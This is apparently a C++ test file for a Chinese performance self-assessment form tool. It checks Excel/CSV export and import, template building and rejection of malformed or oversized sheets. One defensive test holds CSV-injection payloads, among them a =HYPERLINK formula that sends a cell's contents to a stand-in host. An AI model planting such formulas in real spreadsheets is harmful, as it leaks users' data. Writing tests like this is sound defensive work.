// Filled forms to Excel/CSV and back: the official layout, exact round trips for every
// golden case, edits made in Excel read back, and templates from indicator lists.
#include "office/answers_workbook.hpp"

#include <filesystem>

#include "api.hpp"
#include "office/template_table.hpp"
#include "session/form_session.hpp"
#include "spreadsheet/csv.hpp"
#include "spreadsheet/xlsx.hpp"
#include "spreadsheet/xml_reader.hpp"
#include "spreadsheet/zip_archive.hpp"
#include "test_support.hpp"

using nlohmann::json;
using namespace selfeval;
using test_support::slurp;

namespace {

FormSession golden_session(const std::string& name) {
  FormSession s;
  const json c = json::parse(slurp("tests/golden/" + name + "/case.json"));
  REQUIRE(s.load_template(slurp(c["template"].get<std::string>()))["ok"] == true);
  REQUIRE(s.load_answers(slurp("tests/golden/" + name + "/answers.json"))["ok"] == true);
  return s;
}

std::vector<std::string> golden_cases() {
  std::vector<std::string> out;
  for (const auto& e :
       std::filesystem::directory_iterator(std::string(SELFEVAL_SOURCE_DIR) + "/tests/golden"))
    out.push_back(e.path().filename().string());
  std::sort(out.begin(), out.end());
  return out;
}

// The (row, column) of the first cell of `sheet` whose text is `text`.
std::pair<int, int> find_cell(const spreadsheet::Sheet& sheet, const std::string& text) {
  for (const auto& [rc, c] : sheet.cells)
    if (c.text == text) return rc;
  FAIL("no cell " << text);
  return {-1, -1};
}

}  // namespace

TEST_CASE("seed 001 in the official layout") {
  FormSession s = golden_session("seed001-project");
  const ReportSheet r = build_report_sheet(s.describe(), s.result(), s.answers());
  const auto& sh = r.sheet;
  CHECK(sh.at(0, 0)->text == "2022年度项目支出绩效自评表");
  CHECK(sh.at(0, 0)->role == spreadsheet::CellRole::kTitle);
  CHECK(sh.at(r.table_head_row, 0)->text == "一级指标");
  CHECK(sh.at(r.table_head_row, 7)->text == "偏差原因分析及改进措施");
  // 产出指标 spans its three indicator rows, with its weight as seed 001 prints it; 数量指标 its
  // two.
  auto out = find_cell(sh, "产出指标（50%）");
  auto qty = find_cell(sh, "数量指标");
  bool out_merged = false, qty_merged = false;
  for (const auto& m : sh.merges) {
    if (m.row == out.first && m.col == 0 && m.rows == 3) out_merged = true;
    if (m.row == qty.first && m.col == 1 && m.rows == 2) qty_merged = true;
  }
  CHECK(out_merged);
  CHECK(qty_merged);
  auto total = find_cell(sh, "总分");
  CHECK(sh.at(total.first, 6)->text == "100.00");
  CHECK(sh.at(total.first, 6)->kind == spreadsheet::Cell::Kind::kNumber);
  CHECK(sh.at(total.first + 1, 5)->text == "优");
  for (const char* sign : {"填报人：", "审核人：", "单位负责人：", "单位盖章："})
    CHECK(find_cell(sh, sign).first > total.first);
  // Every indicator of the result is on the sheet with its score.
  const json scored = s.result();
  for (const auto& ind : scored["indicators"]) {
    auto at = find_cell(sh, ind["name"].get<std::string>());
    CHECK(spreadsheet::shown_number(*sh.at(at.first, 6)) ==
          ind["score"].get<std::string>());  // as Excel shows it
  }
  const json j = report_to_json(r);
  CHECK(j["head_row"] == r.table_head_row);
  CHECK(j["rows"][0][0]["colspan"] == 8);
}

TEST_CASE("every golden case round-trips through .xlsx to the same answers") {
  for (const auto& name : golden_cases()) {
    CAPTURE(name);
    FormSession s = golden_session(name);
    const std::string bytes = s.export_xlsx();
    CHECK(s.export_xlsx() == bytes);
    const json back = api_answers_from_xlsx(bytes);
    REQUIRE(back["ok"] == true);
    CHECK(back["answers"] == s.answers());
  }
}

TEST_CASE("cells changed or emptied in Excel are read back; unchanged ones keep their type") {
  FormSession s = golden_session("seed001-project");
  std::string why;
  auto book = spreadsheet::read_xlsx(s.export_xlsx(), why);
  REQUIRE(book);
  auto& sheet = book->sheets[0];
  auto a = find_cell(sheet, "3场");
  sheet.cells[a].text = "2场";
  auto reason = std::make_pair(a.first, 7);
  sheet.cells[reason] = spreadsheet::Cell{"疫情影响"};
  // The budget's executed amount shown as a number; a string in the answers.
  auto fiscal = find_cell(sheet, "其中：当年财政拨款");
  sheet.cells[{fiscal.first, 4}].text = "12.5";
  auto goal = find_cell(sheet, "实际完成情况");
  sheet.cells.erase({goal.first + 1, goal.second});
  const json back = api_answers_from_xlsx(spreadsheet::write_xlsx(*book));
  REQUIRE(back["ok"] == true);
  json expected = s.answers();
  std::string q;
  for (const auto& [id, v] : expected["values"].items())
    if (v.value("actual", "") == "3场") q = id;
  expected["values"][q]["actual"] = "2场";
  expected["values"][q]["reason"] = "疫情影响";
  expected["budget"]["rows"]["fiscal"]["executed"] = "12.5";
  expected["goals"].erase("actual");
  CHECK(back["answers"] == expected);
  // The year stays a number, budget figures stay strings.
  CHECK(back["answers"]["year"].is_number_integer());
  CHECK(back["answers"]["budget"]["rows"]["total"]["adjusted"] == "14.53");
}

TEST_CASE("workbooks that are not selfeval exports are refused with a reason") {
  CHECK(api_answers_from_xlsx("")["findings"][0]["code"] == "workbook.unreadable");
  CHECK(api_answers_from_xlsx("PK\x03\x04garbage")["findings"][0]["code"] == "workbook.unreadable");
  spreadsheet::Workbook b;
  b.sheets.push_back({});
  b.sheets[0].name = "Sheet1";
  CHECK(api_answers_from_xlsx(spreadsheet::write_xlsx(b))["findings"][0]["code"] ==
        "workbook.no_data_sheet");
  spreadsheet::Sheet data;
  data.name = "数据";
  data.cells[{1, 0}] = spreadsheet::Cell{"/values/x"};
  data.cells[{1, 2}] = spreadsheet::Cell{"object"};
  b.sheets.push_back(data);
  const json r = api_answers_from_xlsx(spreadsheet::write_xlsx(b));
  CHECK(r["ok"] == false);
  CHECK(r["findings"][0]["code"] == "workbook.bad_path");
  CHECK(r["findings"][0]["message"].get<std::string>().find("第 2 行") != std::string::npos);
}

TEST_CASE("CSV export: BOM, the layout's rows, numbers with their decimals") {
  FormSession s = golden_session("seed001-project");
  const std::string csv = s.export_csv();
  CHECK(csv.rfind("\xEF\xBB\xBF"
                  "2022年度项目支出绩效自评表",
                  0) == 0);
  CHECK(csv.find("\r\n一级指标,二级指标,三级指标,年度指标值,实际完成值,分值,得分,"
                 "偏差原因分析及改进措施\r\n") != std::string::npos);
  CHECK(csv.find("总分,,,,,100,100.00,") != std::string::npos);
  CHECK(csv.find("年度资金总额,,150.00,14.53,14.53,10,100.00%,10.00") != std::string::npos);
}

TEST_CASE("a template from an indicator list") {
  const std::string table =
      "一级,二级,三级,年度指标值,分值,方向,规则\n"
      "产出指标,数量指标,培训人数,≥15名/年,20,正向,\n"
      ",,举办活动,≥3场,20,,\n"
      ",时效指标,按时完成率,100%,10,,\n"
      "效益指标,社会效益指标,投诉次数,≤5次,30,反向,\n"
      "满意度指标,服务对象满意度指标,满意度,≥90%,10,正向,比例\n";
  const json r = api_template_from_sheet(table, "培训项目");
  REQUIRE_MESSAGE(r["ok"] == true, r.dump());
  const json& t = r["template"];
  CHECK(t["name"] == "培训项目");
  CHECK(t["budget"]["weight"] == 10);  // 90 points of indicators: the budget block adds 10
  CHECK(t["indicators"].size() == 3);
  CHECK(t["indicators"][0]["weight"] == 50);
  CHECK(t["indicators"][0]["children"][0]["children"].size() == 2);
  CHECK(t["indicators"][0]["children"][1]["children"][0]["category"] == "时效");
  CHECK(t["indicators"][2]["children"][0]["children"][0]["rule"] == "positive");
  CHECK(api_template_from_sheet(table, "培训项目")["template"]["id"] == t["id"]);
  // The template loads and scores.
  REQUIRE(api_check_template(t.dump())["ok"] == true);
  FormSession s;
  REQUIRE(s.load_template(t.dump())["ok"] == true);
  const std::string leaf = t["indicators"][1]["children"][0]["children"][0]["id"];
  CHECK(s.set_value(leaf, "actual", "2次")["ok"] == true);
  const json after = s.result();
  for (const auto& ind : after["indicators"])
    if (ind["id"] == leaf) CHECK(ind["score"] == "30.00");

  // The same list as .xlsx (level cells merged: blanks below them).
  spreadsheet::Workbook b;
  b.sheets.push_back({});
  std::string why;
  auto rows = spreadsheet::read_csv(table, why);
  for (std::size_t i = 0; i < rows->size(); ++i)
    for (std::size_t c = 0; c < (*rows)[i].size(); ++c)
      if (!(*rows)[i][c].empty())
        b.sheets[0].cells[{static_cast<int>(i), static_cast<int>(c)}] =
            spreadsheet::Cell{(*rows)[i][c], c == 4 && i > 0 ? spreadsheet::Cell::Kind::kNumber
                                                             : spreadsheet::Cell::Kind::kText};
  const json x = api_template_from_sheet(spreadsheet::write_xlsx(b), "培训项目");
  REQUIRE(x["ok"] == true);
  CHECK(x["template"] == t);
}

TEST_CASE("indicator lists with mistakes are refused cell by cell") {
  const json r = api_template_from_sheet(
      "一级,二级,三级,年度指标值,分值,方向,规则\n产出指标,数量指标,培训,≥15名,二十,,\n,,活动,≥3场,"
      "20,向上,\n,,走访,10次,10,,打分\n",
      "");
  REQUIRE(r["ok"] == false);
  REQUIRE(r["findings"].size() == 3);
  CHECK(r["findings"][0]["code"] == "table.bad_weight");
  CHECK(r["findings"][0]["message"].get<std::string>().find("第 2 行（E2）") != std::string::npos);
  CHECK(r["findings"][1]["code"] == "table.bad_direction");
  CHECK(r["findings"][2]["code"] == "table.unknown_rule");
  CHECK(api_template_from_sheet("名称,分值\n", "")["findings"][0]["code"] == "table.no_header");
  // A target the template would refuse is refused at its cell (found by the fuzzer: a list made a
  // template that check-template refused).
  const json bad_date = api_template_from_sheet(
      "一级,二级,三级,年度指标值,分值\n产出,时效,完成时间,1011年12月31日,100\n", "");
  REQUIRE(bad_date["ok"] == false);
  CHECK(bad_date["findings"][0]["code"] == "table.bad_target");
  CHECK(bad_date["findings"][0]["message_zh"].get<std::string>().find(
            "第 2 行（D2）：指标值中的日期无效") == 0);
  CHECK(api_template_from_sheet("一级,二级,三级,年度指标值,分值\n产出,数量,培训,1次,40\n",
                                "")["findings"][0]["code"] == "table.weights_sum");
}

// ---------------------------------------------------------------------------------------
// Files as other programs write them (tests/data/sheets/, made by tools/make_sheet_fixtures.mjs
// with LibreOffice and exceljs), and cells typed the way Excel stores them.
namespace {

// The workbook with cell `ref` of the first sheet holding the number `v` under the built-in
// or custom number format `format` — what Excel writes when a value is typed there.
std::string typed_in_excel(const std::string& xlsx, const std::string& ref, const std::string& v,
                           const std::string& format) {
  std::string why;
  auto parts = spreadsheet::zip_read(xlsx, why);
  REQUIRE(parts);
  for (auto& p : *parts) {
    if (p.name == "xl/styles.xml") {
      // A custom format and a cell style using it, appended.
      const auto xfs = p.data.find("<cellXfs count=\"");
      const int count = std::atoi(p.data.c_str() + xfs + 16);
      p.data.replace(xfs + 16, std::to_string(count).size(), std::to_string(count + 1));
      p.data.insert(p.data.find("</cellXfs>"),
                    "<xf numFmtId=\"300\" fontId=\"0\" fillId=\"0\" borderId=\"1\" xfId=\"0\"/>");
      p.data.insert(p.data.find("</numFmts>"), "<numFmt numFmtId=\"300\" formatCode=\"" +
                                                   spreadsheet::xml_escape(format) + "\"/>");
      const std::string style = std::to_string(count);
      for (auto& q : *parts)
        if (q.name == "xl/worksheets/sheet1.xml") {
          const auto at = q.data.find("<c r=\"" + ref + "\"");
          REQUIRE(at != std::string::npos);
          const auto end = q.data.find("</c>", at) + 4;
          q.data.replace(at, end - at,
                         "<c r=\"" + ref + "\" s=\"" + style + "\"><v>" + v + "</v></c>");
        }
    }
  }
  return spreadsheet::zip_write(*parts);
}

std::string cell_of(const std::string& xlsx, const std::string& text, int col) {
  std::string why;
  auto book = spreadsheet::read_xlsx(xlsx, why);
  REQUIRE(book);
  const auto at = find_cell(book->sheets[0], text);
  return spreadsheet::cell_ref(at.first, col);
}

std::string total_when(const std::string& answers_json, const std::string& id,
                       const std::string& field, const std::string& typed) {
  FormSession s;
  REQUIRE(s.load_template(slurp("schemas/templates/project-self-assessment.json"))["ok"] == true);
  REQUIRE(s.load_answers(answers_json)["ok"] == true);
  if (!typed.empty()) REQUIRE(s.set_value(id, field, typed)["ok"] == true);
  return s.result()["total"];
}

}  // namespace

TEST_CASE(
    "95% typed into 实际完成值 in Excel, LibreOffice or exceljs reads back as 95% and scores as "
    "typing 95% does") {
  const std::string seed = slurp("tests/golden/seed001-project/answers.json");
  const std::string typed_total = total_when(seed, "b1", "actual", "95%");
  CHECK(typed_total == "99.25");
  FormSession s = golden_session("seed001-project");
  const std::string exported = s.export_xlsx();
  const std::string excel =
      typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.95", "0%");
  for (const std::string& bytes : {excel, slurp("tests/data/sheets/seed001-percent.exceljs.xlsx"),
                                   slurp("tests/data/sheets/seed001-percent.libreoffice.xlsx")}) {
    const json back = api_answers_from_xlsx(bytes);
    REQUIRE_MESSAGE(back["ok"] == true, back.dump());
    CHECK(back["answers"]["values"]["b1"]["actual"] == "95%");
    CHECK(total_when(back["answers"].dump(), "", "", "") == typed_total);
    // Nothing else moved.
    json expected = s.answers();
    expected["values"]["b1"]["actual"] = "95%";
    CHECK(back["answers"] == expected);
  }
  // 0.1234 shown as 12.34%, not 12.340000000000002%.
  const json fine = api_answers_from_xlsx(
      typed_in_excel(exported, cell_of(exported, "人才政策申报", 4), "0.1234", "0.00%"));
  CHECK(fine["answers"]["values"]["b1"]["actual"] == "12.34%");
}

TEST_CASE(
    "a date typed into a 时效 row reads back as that date, and the row scores as typing it does") {
  const std::string answers = slurp("tests/data/sheets/deadline.answers.json");
  const std::string late_total = total_when(answers, "q3", "actual_date", "2023-01-15");
  CHECK(late_total == "90.00");
  FormSession s;
  REQUIRE(s.load_template(slurp("schemas/templates/project-self-assessment.json"))["ok"] == true);
  REQUIRE(s.load_answers(answers)["ok"] == true);
  const std::string exported = s.export_xlsx();
  const std::string ref = cell_of(exported, "实施细则出台时间", 4);
  for (const std::string& bytes :
       {typed_in_excel(exported, ref, "44941", "yyyy/m/d"),
        typed_in_excel(exported, ref, "44941", "yyyy\"年\"m\"月\"d\"日\""),
        slurp("tests/data/sheets/deadline-late.exceljs.xlsx"),
        slurp("tests/data/sheets/deadline-late.libreoffice.xlsx")}) {
    const json back = api_answers_from_xlsx(bytes);
    REQUIRE_MESSAGE(back["ok"] == true, back.dump());
    CHECK(back["answers"]["values"]["q3"]["actual_date"] == "2023-01-15");
    CHECK(total_when(back["answers"].dump(), "", "", "") == late_total);
  }
  // The 1904 date system: the same day is a smaller serial.
  std::string wb1904 = typed_in_excel(exported, ref, "43479", "yyyy/m/d");
  std::string why;
  auto parts = spreadsheet::zip_read(wb1904, why);
  for (auto& p : *parts)
    if (p.name == "xl/workbook.xml")
      p.data.insert(p.data.find("<sheets>"), "<workbookPr date1904=\"1\"/>");
  CHECK(api_answers_from_xlsx(spreadsheet::zip_write(
            *parts))["answers"]["values"]["q3"]["actual_date"] == "2023-01-15");
}

TEST_CASE(
    "a cell that cannot be read as it shows keeps the listed answer, with a finding naming sheet "
    "and cell") {
  FormSession s = golden_session("seed001-project");
  const std::string exported = s.export_xlsx();
  const std::string ref = cell_of(exported, "人才政策申报", 4);
  std::string why;
  auto parts = spreadsheet::zip_read(exported, why);
  for (auto& p : *parts)
    if (p.name == "xl/worksheets/sheet1.xml") {
      const auto at = p.data.find("<c r=\"" + ref + "\"");
      const auto end = p.data.find("</c>", at) + 4;
      p.data.replace(at, end - at,
                     "<c r=\"" + ref + "\"><f>B1*2</f></c>");  // a formula never calculated
    }
  const json back = api_answers_from_xlsx(spreadsheet::zip_write(*parts));
  REQUIRE(back["ok"] == true);
  CHECK(back["answers"] == s.answers());
  REQUIRE(back["findings"].size() == 1);
  CHECK(back["findings"][0]["code"] == "workbook.formula_without_value");
  CHECK(back["findings"][0]["message_zh"].get<std::string>().find("工作表“自评表”的 " + ref) == 0);
}

TEST_CASE(
    "indicator lists from LibreOffice, exceljs and GB18030 CSV give the template of their UTF-8 "
    "twin") {
  const json twin = api_template_from_sheet(slurp("tests/data/sheets/list.utf8.csv"), "培训");
  REQUIRE_MESSAGE(twin["ok"] == true, twin.dump());
  const json& t = twin["template"];
  // Percentages typed as 95% and 100%, a date typed into the 时效 row, 䶮 and 𠀀 in a name.
  const json& output = t["indicators"][0]["children"];
  CHECK(output[1]["children"][0]["target"] == "95%");
  CHECK(output[2]["children"][0]["target"] == "2022年12月31日");
  CHECK(t["indicators"][1]["children"][0]["children"][0]["target"] == "100%");
  CHECK(t["indicators"][2]["children"][0]["children"][0]["name"] == "学员满意度（䶮𠀀）");
  for (const char* f :
       {"list.utf8-bom.csv", "list.gb18030.csv", "list.libreoffice.xlsx", "list.exceljs.xlsx"}) {
    CAPTURE(f);
    const json r = api_template_from_sheet(slurp(std::string("tests/data/sheets/") + f), "培训");
    REQUIRE_MESSAGE(r["ok"] == true, r.dump());
    CHECK(r["template"] == t);
    CHECK(r["findings"].empty());
  }
  // The date target is a deadline.
  CHECK(api_parse_target("2022年12月31日", "")["kind"] == "deadline");
}

TEST_CASE("an .xls indicator list imports; numbers whose format .xls does not keep are named") {
  const json r = api_template_from_sheet(slurp("tests/data/sheets/list.xls"), "培训");
  REQUIRE_MESSAGE(r["ok"] == true, r.dump());
  const json& output = r["template"]["indicators"][0]["children"];
  CHECK(output[0]["children"][0]["name"] == "培训人数");
  CHECK(output[1]["children"][0]["target"] == "0.95");
  CHECK(output[2]["children"][0]["target"] == "2022-12-31");
  CHECK(r["template"]["indicators"][2]["children"][0]["children"][0]["name"] ==
        "学员满意度（䶮𠀀）");
  std::vector<std::string> codes;
  for (const auto& f : r["findings"]) codes.push_back(f["code"]);
  CHECK(codes == std::vector<std::string>{"workbook.xls_limits", "table.format_unknown",
                                          "table.format_unknown"});
  CHECK(r["findings"][1]["message_zh"].get<std::string>().find("第 3 行（D3）") == 0);
  CHECK(api_template_from_sheet(std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + "not really",
                                "")["findings"][0]["code"] == "workbook.unreadable");
}

TEST_CASE(
    "hostile indicator lists are refused early with the limit named; large ones import in linear "
    "time") {
  // One cell at XFD1048576 (the 794-byte workbook of the issue).
  spreadsheet::Workbook far;
  far.sheets.push_back({});
  far.sheets[0].name = "Sheet1";
  far.sheets[0].cells[{1048575, 16383}] = spreadsheet::Cell{"x"};
  const std::string tiny = spreadsheet::write_xlsx(far);
  json r = api_template_from_sheet(tiny, "");
  REQUIRE(r["ok"] == false);
  CHECK(r["findings"][0]["code"] == "table.too_large");
  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("第 1048576 行") == 0);
  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("最多 30,000 行") !=
        std::string::npos);
  // A CSV of 1,000,000 rows stops at the first row beyond the limits.
  std::string big = "一级,二级,三级,年度指标值,分值\n";
  for (int i = 0; i < 1000000; ++i) big += "产出,数量,培训" + std::to_string(i) + ",1次,0.0001\n";
  r = api_template_from_sheet(big, "");
  REQUIRE(r["ok"] == false);
  CHECK(r["findings"][0]["code"] == "table.too_large");
  CHECK(r["findings"][0]["message_zh"].get<std::string>().find("超过 500 个指标（模板上限）") !=
        std::string::npos);
  // 8,000 indicators in 16 categories of 500: a valid list, read once.
  std::string list = "一级,二级,三级,年度指标值,分值\n";
  for (int i = 0; i < 8000; ++i)
    list += "产出,类别" + std::to_string(i / 500) + ",指标" + std::to_string(i) + ",1次,0.0125\n";
  r = api_template_from_sheet(list, "");
  REQUIRE_MESSAGE(r["ok"] == true, r["findings"].dump());
  CHECK(r["template"]["indicators"][0]["children"].size() == 16);
  spreadsheet::Workbook wide;
  wide.sheets.push_back({});
  std::string why;
  auto rows = spreadsheet::read_csv(list, why);
  for (std::size_t i = 0; i < rows->size(); ++i)
    for (std::size_t c = 0; c < (*rows)[i].size(); ++c)
      wide.sheets[0].cells[{static_cast<int>(i), static_cast<int>(c)}] =
          spreadsheet::Cell{(*rows)[i][c]};
  wide.sheets[0].cells[{8000, 16383}] = spreadsheet::Cell{"备注"};  // a note far to the right
  CHECK(api_template_from_sheet(spreadsheet::write_xlsx(wide), "")["template"] == r["template"]);
}

TEST_CASE("CSV export: text that a spreadsheet would run as a formula is written as text") {
  FormSession s = golden_session("seed001-project");
  REQUIRE(s.set_value("q1", "reason", "=1+1")["ok"] == true);
  REQUIRE(s.set_value("q2", "reason",
                      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击\")")["ok"] == true);
  REQUIRE(s.set_value("b1", "reason", "-2+3")["ok"] == true);
  REQUIRE(s.set_value("b2", "reason", "@SUM(1)")["ok"] == true);
  const std::string csv = s.export_csv();
  CHECK(csv.find(",\"'=1+1\"\r\n") != std::string::npos);
  CHECK(csv.find(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"点击\"\")\"\r\n") !=
        std::string::npos);
  CHECK(csv.find(",\"'-2+3\"\r\n") != std::string::npos);
  CHECK(csv.find(",\"'@SUM(1)\"\r\n") != std::string::npos);
  // Numbers stay numbers, negative ones too.
  spreadsheet::Sheet sh;
  sh.cells[{0, 0}] = spreadsheet::Cell{"-1.50", spreadsheet::Cell::Kind::kNumber, 2};
  sh.cells[{0, 1}] = spreadsheet::Cell{"\tx"};
  sh.cells[{0, 2}] = spreadsheet::Cell{"+86 20"};
  CHECK(spreadsheet::write_csv(sh) == "\xEF\xBB\xBF-1.50,\"'\tx\",\"'+86 20\"\r\n");
}
